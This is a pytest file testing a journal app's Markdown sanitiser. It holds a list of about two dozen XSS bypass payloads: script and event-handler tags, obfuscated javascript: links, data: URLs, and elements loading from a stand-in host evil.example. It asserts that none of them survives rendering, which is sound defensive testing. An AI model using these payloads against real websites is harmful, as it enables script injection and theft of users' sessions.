"""Stories are Markdown: what renders, and the known ways around a sanitiser that must not."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from journal.web.markdown import link, render_markdown, safe_url

BYPASSES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](https://example.org/a.png" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[click][x]",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><button>go</button></form>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)">x</p>',
    "<object data=https://evil.example/x.swf></object>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<<script>script>alert(1)<</script>/script>",
    "```html\n<script>alert(1)</script>\n```",
]
SAFE_TAGS = {"p", "a", "img", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li"}
SAFE_TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "br"}


class Tags(HTMLParser):
    """Every tag and attribute as a browser would parse them."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("story", BYPASSES)
def test_no_markup_survives_that_could_run(story):
    html = str(render_markdown(story))
    for tag, attrs in Tags(html).tags:
        assert tag in SAFE_TAGS, html
        assert not any(name.startswith("on") or name == "style" for name in attrs), html
        for name in ("href", "src"):
            if name in attrs:
                # A relative link (no scheme) goes nowhere dangerous.
                assert urlsplit(attrs[name]).scheme in ("", "http", "https", "mailto"), html


def test_markdown_still_renders():
    html = str(render_markdown("**Met** at the *meetup*; see [the post](https://example.org/p)."))
    assert "<strong>Met</strong>" in html and "<em>meetup</em>" in html
    assert '<a href="https://example.org/p" rel="noopener noreferrer nofollow">the post</a>' in html


def test_links_on_cards_only_for_safe_schemes():
    assert safe_url("https://x.com/benji") == "https://x.com/benji"
    assert safe_url("mailto:a@b.org") == "mailto:a@b.org"
    for url in ("javascript:alert(1)", " JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x"):
        assert safe_url(url) is None
        assert "<a" not in str(link(url))
    assert str(link("https://a.org/?q=<b>", "<i>x</i>")) == (
        '<a href="https://a.org/?q=&lt;b&gt;" rel="noopener noreferrer nofollow">'
        "&lt;i&gt;x&lt;/i&gt;</a>"
    )
